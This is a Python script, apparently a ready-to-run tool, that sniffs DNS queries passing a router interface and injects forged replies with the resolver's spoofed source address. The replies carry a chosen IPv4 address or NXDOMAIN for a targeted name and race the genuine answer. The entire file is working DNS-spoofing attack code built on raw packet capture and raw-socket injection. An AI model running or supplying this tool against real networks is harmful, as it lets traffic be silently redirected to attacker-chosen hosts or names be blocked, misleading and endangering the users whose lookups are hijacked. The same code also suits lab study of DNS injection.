"""Answers DNS questions that pass a router in their resolver's place, and lets them pass: the resolver's own answer comes later.

Usage: injector.py INTERFACE NAME ADDRESS|nxdomain
"""

import socket
import struct
import sys

IPV4 = 0x0800
SIGN = 5300


def questions(interface):
    """Each IPv4 datagram to port 53 that comes in there: its addresses, its port, and the question."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(IPV4)) as wire:
        wire.bind((interface, IPV4))
        # Says that it is there, to whoever looks.
        sign = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sign.bind(("127.0.0.1", SIGN))
        while True:
            packet, (_, _, kind, *_) = wire.recvfrom(65535)
            size = (packet[0] & 15) * 4
            if kind == socket.PACKET_OUTGOING or packet[9] != socket.IPPROTO_UDP or len(packet) < size + 20:
                continue
            near, far = struct.unpack_from("!HH", packet, size)
            if far == 53:
                yield packet[12:16], packet[16:20], near, packet[size + 8:]


def asked(message):
    """The name and the type of a message's question, and its bytes."""
    labels, at = [], 12
    while message[at]:
        labels.append(message[at + 1:at + 1 + message[at]].decode("ascii", "replace"))
        at += 1 + message[at]
    return ".".join(labels).lower(), struct.unpack_from("!H", message, at + 1)[0], message[12:at + 5]


def answer(message, said):
    """A reply to an A question with an address, or that the name does not exist; to others that there is nothing."""
    _, kind, question = asked(message)
    denied = said == "nxdomain"
    records = b"" if denied or kind != 1 else struct.pack("!HHHIH4s", 0xC00C, 1, 1, 60, 4, socket.inet_aton(said))
    flags = 0x8180 | (3 if denied else 0)
    return message[:2] + struct.pack("!HHHHH", flags, 1, 1 if records else 0, 0, 0) + question + records


def main(interface, name, said):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for client, resolver, port, message in questions(interface):
            if len(message) > 16 and asked(message)[0] == name:
                reply = answer(message, said)
                # Without a checksum, as IPv4 allows.
                datagram = struct.pack("!HHHH", 53, port, 8 + len(reply), 0) + reply
                header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, socket.IPPROTO_UDP, 0, resolver, client)
                out.sendto(header + datagram, (socket.inet_ntoa(client), 0))


main(*sys.argv[1:])
